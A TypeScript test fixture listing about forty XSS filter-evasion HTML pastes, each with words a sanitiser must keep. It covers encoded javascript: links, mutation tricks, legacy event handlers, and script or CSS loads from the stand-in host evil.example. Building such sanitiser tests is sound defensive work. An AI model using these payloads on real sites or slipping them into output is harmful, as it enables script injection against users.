/**
 * Pasted HTML in the classes of filter-evasion tricks that public XSS test collections catalogue
 * (case games, encodings, broken markup, odd separators, legacy elements, parser confusion). The
 * payloads are written for this app; each carries words that must survive the cleaning.
 */
export const EVASION_PASTES: { name: string; html: string; keeps: string[] }[] = [
  {
    name: 'mixed-case script tag',
    html: '<p>one</p><ScRiPt>window.pwned=1</sCrIpT><p>two</p>',
    keeps: ['one', 'two'],
  },
  {
    name: 'unquoted, slash-separated handler',
    html: '<p>left<img/src=x/onerror=window.pwned=1>right</p>',
    keeps: ['left', 'right'],
  },
  {
    name: 'handler after a junk attribute with backticks',
    html: '<p>tick<img src=`x` onerror=`window.pwned=1`>tock</p>',
    keeps: ['tick', 'tock'],
  },
  {
    name: 'handler with odd characters before the equals sign',
    html: '<p>odd<b onmouseover!#$%&()*~+-_.,:;?@[/|]^`=window.pwned=1>chars</b></p>',
    keeps: ['odd', 'chars'],
  },
  {
    name: 'handler on a body tag with a newline separator',
    html: '<body\nonload="window.pwned=1"><p>body text</p></body>',
    keeps: ['body text'],
  },
  {
    name: 'script with a quoted greater-than in an attribute',
    html: '<p>quote</p><script a=">" src="https://evil.example/x.js"></script><p>gt</p>',
    keeps: ['quote', 'gt'],
  },
  {
    name: 'extra open angle brackets',
    html: '<p>angles <<script>window.pwned=1//<</script> end</p>',
    keeps: ['angles', 'end'],
  },
  {
    name: 'half-open image tag at the end',
    html: '<p>half open</p><img src="x" onerror="window.pwned=1"',
    keeps: ['half open'],
  },
  {
    name: 'script without a closing tag',
    html: '<p>unclosed</p><script>window.pwned=1',
    keeps: ['unclosed'],
  },
  {
    name: 'title and textarea breakouts',
    html: '</title><script>window.pwned=1</script><p>title</p></textarea><img src=x onerror=window.pwned=2><p>area</p>',
    keeps: ['title', 'area'],
  },
  {
    name: 'decimal entities in a javascript link',
    html: '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.pwned=1">decimal</a></p>',
    keeps: ['decimal'],
  },
  {
    name: 'padded decimal and hex entities without semicolons',
    html: '<p><a href="&#0000106&#0000097vascript:window.pwned=1">padded</a> <a href="&#x6A&#x61vascript:window.pwned=1">hexed</a></p>',
    keeps: ['padded', 'hexed'],
  },
  {
    name: 'tab, newline and carriage return inside javascript',
    html: '<p><a href="jav\tascript:window.pwned=1">tab</a> <a href="jav&#x0A;ascript:window.pwned=1">newline</a> <a href="jav&#x0D;ascript:window.pwned=1">return</a></p>',
    keeps: ['tab', 'newline', 'return'],
  },
  {
    name: 'control characters and spaces before javascript',
    html: '<p><a href=" &#14;  javascript:window.pwned=1">spaced</a> <a href="\u0000javascript:window.pwned=1">nul</a></p>',
    keeps: ['spaced', 'nul'],
  },
  {
    name: 'link to a data URL holding a script, base64',
    html: '<p><a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">packed</a></p>',
    keeps: ['packed'],
  },
  {
    name: 'frameset document',
    html: '<html><head><title>t</title></head><frameset onload="window.pwned=1"><frame src="javascript:window.pwned=2"><noframes><p>no frames</p></noframes></frameset></html>',
    keeps: [],
  },
  {
    name: 'iframe with srcdoc and an event',
    html: '<p>framed</p><iframe srcdoc="<script>parent.pwned=1</script>" onload="window.pwned=2"></iframe><p>after</p>',
    keeps: ['framed', 'after'],
  },
  {
    name: 'image in an input and a table background',
    html: '<input type="image" src="javascript:window.pwned=1"><table background="https://evil.example/bg.png"><tr><td background="javascript:x">cell words</td></tr></table>',
    keeps: ['cell words'],
  },
  {
    name: 'legacy image attributes',
    html: '<p>legacy<img dynsrc="javascript:window.pwned=1" lowsrc="https://evil.example/l.png">attrs</p>',
    keeps: ['legacy', 'attrs'],
  },
  {
    name: 'background sound and marquee events',
    html: '<bgsound src="https://evil.example/a.mid"><marquee onstart="window.pwned=1">scrolling words</marquee>',
    keeps: ['scrolling words'],
  },
  {
    name: 'style attribute with a url and an expression',
    html: '<p style="background-image:url(https://evil.example/i.png);width:expression(window.pwned=1)">styled words</p>',
    keeps: ['styled words'],
  },
  {
    name: 'style element with an import and broken-up javascript',
    html: '<style>@import "https://evil.example/s.css"; p{background:url("java\\script:x")}</style><p>imported</p>',
    keeps: ['imported'],
  },
  {
    name: 'list-style image and unicode escapes in styles',
    html: '<ul><li style="list-style-image:url(https://evil.example/dot.png)">dotted</li></ul><div style="background:\\75 rl(https://evil.example/u)">escaped</div>',
    keeps: ['dotted', 'escaped'],
  },
  {
    name: 'meta refresh to a data URL',
    html: '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+"><p>refresh</p>',
    keeps: ['refresh'],
  },
  {
    name: 'conditional comments hiding a script',
    html: '<!--[if gte IE 4]><script>window.pwned=1</script><![endif]--><p>conditional</p>',
    keeps: ['conditional'],
  },
  {
    name: 'comment that ends inside an attribute',
    html: '<!--<img src="--><img src=x onerror=window.pwned=1//">--><p>commented</p>',
    keeps: ['commented'],
  },
  {
    name: 'object and embed with svg data',
    html: '<object type="image/svg+xml" data="data:image/svg+xml,<svg onload=alert(1)>"></object><embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="><p>embedded</p>',
    keeps: ['embedded'],
  },
  {
    name: 'svg link with xlink href',
    html: '<svg><a xlink:href="javascript:window.pwned=1"><text x="0" y="20">svg words</text></a></svg><p>outside</p>',
    keeps: ['outside'],
  },
  {
    name: 'math element with a link',
    html: '<math><mtext><a href="javascript:window.pwned=1">math link</a></mtext></math><p>plain math</p>',
    keeps: ['plain math'],
  },
  {
    name: 'noscript mutation',
    html: '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">mutated</p></noscript><p>kept</p>',
    keeps: ['kept'],
  },
  {
    name: 'svg style mutation',
    html: '<svg><style><img src=x onerror=window.pwned=1></style></svg><p>svg style</p>',
    keeps: ['svg style'],
  },
  {
    name: 'template and xmp content',
    html: '<template><img src=x onerror=window.pwned=1></template><xmp><img src=x onerror=window.pwned=2></xmp><p>raw text</p>',
    keeps: ['raw text'],
  },
  {
    name: 'details toggle and autofocus focus events',
    html: '<details open ontoggle="window.pwned=1"><summary>summary words</summary></details><p tabindex="0" autofocus onfocus="window.pwned=2">focus words</p>',
    keeps: ['summary words', 'focus words'],
  },
  {
    name: 'form action overrides on buttons',
    html: '<p>form</p><button formaction="javascript:window.pwned=1">go</button><isindex action="javascript:x" type="image"><p>words</p>',
    keeps: ['form', 'words'],
  },
  {
    name: 'media with failing sources',
    html: '<video><source onerror="window.pwned=1"></video><audio src=x onerror="window.pwned=2"></audio><p>media words</p>',
    keeps: ['media words'],
  },
  {
    name: 'base tag then a relative link',
    html: '<base href="javascript:/"><p><a href="/window.pwned=1">relative</a></p>',
    keeps: ['relative'],
  },
  {
    name: 'mention span with a hostile kind and id',
    html: '<p><span data-type="mention" data-id="&quot; onerror=&quot;x" data-kind="<script>" data-label="Dana">@Dana</span> said</p>',
    keeps: ['said'],
  },
  {
    name: 'deeply nested inline formatting',
    html: `<p>${'<b><i>'.repeat(200)}deep words${'</i></b>'.repeat(200)}</p>`,
    keeps: ['deep words'],
  },
  {
    name: 'plaintext swallowing the rest',
    html: '<p>before plaintext</p><plaintext><script>window.pwned=1</script>',
    keeps: ['before plaintext'],
  },
];
